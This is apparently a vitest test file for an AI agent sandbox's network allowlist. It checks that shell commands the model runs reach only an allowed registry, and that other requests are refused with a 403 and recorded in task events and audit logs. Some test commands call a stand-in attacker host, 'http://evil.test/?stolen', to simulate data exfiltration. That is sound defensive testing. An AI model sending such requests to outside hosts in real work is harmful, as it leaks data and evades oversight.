import { beforeEach, describe, expect, test } from 'vitest'
import { createJudge } from '../../adapters/egress/judge.ts'
import type { Fence } from '../../domain/ports/store.ts'
import { useBuilders, type TestBuilder } from '../support/builder.ts'
import { plainUpstream } from '../support/egress.ts'
import { calls, says } from '../support/scripted-model.ts'

const pool = useBuilders()
let builder: TestBuilder
let registry: { readonly port: number; readonly received: string[] }

beforeEach(async () => {
  registry = await plainUpstream()
  const allowed = [`registry.test:${registry.port}`]
  const judge = createJudge({ allowed, inner: allowed, resolve: () => Promise.resolve(['127.0.0.1']) })
  builder = pool.builder({ judge })
})

/** Asks for a URL by the proxy of the environment and prints what comes back, or that there is none. */
const fetching = (url: string): string => `node -e '
  const { hostname: host, port } = new URL(process.env.http_proxy || "http://none:1")
  if (host === "none") console.log("no proxy")
  else require("http").get({ host, port, path: "${url}", agent: false }, async (response) =>
    console.log(response.statusCode, String(await response.toArray()).trim()))'`

/** Plans a command in a turn, runs it, and gives what was decided and what the watchers saw of its end. */
async function played(fence: Fence, args: Readonly<Record<string, unknown>>) {
  builder.model.will(calls(['run_shell_command', args]))
  await builder.run('takeTurn', { ...fence, turn: 1 })
  const at = { ...fence, turn: 1, position: 0 }
  const { decision } = await pool.store.conversations.call(at)
  await builder.run('runTool', at)
  const events = await pool.store.tasks.events({ taskId: fence.taskId, after: 0, limit: 100 })
  const { data } = events.find(({ type }) => type === 'tool-finished') ?? {}
  builder.model.will(says('Done.'))
  await builder.run('takeTurn', { ...fence, turn: 2 })
  const { response } = builder.model.requests.at(-1)?.contents.at(-1)?.parts[0]?.functionResponse ?? {}
  return { decision, told: String(response?.['output']), finished: data }
}

const task = async (constraints: object) =>
  (await pool.task(builder, { constraints: { approvalMode: 'yolo', ...constraints } })).fence

describe('a task whose requester asked for the network', () => {
  test('reaches what the operator allows', async () => {
    const fence = await task({ network: 'allowlist' })
    const { told, finished } = await played(fence, {
      command: fetching(`http://registry.test:${registry.port}/left-pad`),
    })
    expect(told).toBe('200 path /left-pad\nExit Code: 0')
    expect(finished).not.toHaveProperty('blocked')
    expect(builder.audited).toEqual([])
  })

  test('reaches nothing else: the attempt stands in the task’s events and in the audit', async () => {
    const fence = await task({ network: 'allowlist' })
    const { told, finished } = await played(fence, { command: fetching('http://evil.test/?stolen') })
    expect(told).toMatch(/^403 evil\.test:80 refused: not on the list of allowed hosts/)
    const attempt = { what: 'egress', target: 'evil.test:80 (not on the list of allowed hosts)' }
    expect(finished).toMatchObject({ blocked: [attempt] })
    expect(builder.audited).toEqual([{ ...attempt, taskId: fence.taskId, seat: 1, step: '1.0' }])
  })

  test('has its commands asked about where what leaves the sandbox is', async () => {
    const asked = await task({ approvalMode: 'sandboxed', network: 'allowlist' })
    builder.model.will(
      calls(
        ['run_shell_command', { command: 'npm ci' }],
        ['run_shell_command', { command: 'npm test', network: false }],
      ),
    )
    const outcome = await builder.run('takeTurn', { ...asked, turn: 1 })
    expect(outcome).toMatchObject({ calls: [{ decision: 'ask' }, { decision: 'allow' }] })
  })

  test('runs a command that does without the network without it', async () => {
    const fence = await task({ network: 'allowlist' })
    expect((await played(fence, { command: fetching('http://registry.test/'), network: false })).told).toMatch(
      /^no proxy/,
    )
  })

  test('has the requester’s own checks run with it, and what they are refused audited', async () => {
    const acceptance = {
      setup: [fetching(`http://registry.test:${registry.port}/dependency`)],
      commands: [`${fetching('http://evil.test/')} | grep ^403`],
    }
    const constraints = { approvalMode: 'yolo', network: 'allowlist' } as const
    const { fence } = await pool.task(builder, { constraints, acceptance })
    const { verdict, log } = await builder.run('verifyDelivery', { ...fence, attempt: 1, at: 0 })
    expect({ verdict, log }).toEqual({ verdict: 'passed', log: '' })
    expect(registry.received).toEqual([`GET /dependency of registry.test:${registry.port}`])
    expect(builder.audited).toMatchObject([{ what: 'egress', step: 'verification' }])
    const events = await pool.store.tasks.events({ taskId: fence.taskId, after: 0, limit: 100 })
    const blocked = [{ what: 'egress', target: 'evil.test:80 (not on the list of allowed hosts)' }]
    expect(events.at(-1)).toMatchObject({ type: 'verification-finished', data: { blocked } })
  })
})

describe('a task whose requester did not', () => {
  test.each([['none'], [undefined]])('(network %s) finds no proxy, whatever the model asks for', async (network) => {
    const fence = await task(network === undefined ? {} : { network })
    const { decision, told } = await played(fence, { command: fetching('http://registry.test/'), network: true })
    expect({ decision, told }).toEqual({ decision: 'allow', told: 'no proxy\nExit Code: 0' })
    expect(registry.received).toEqual([])
  })
})
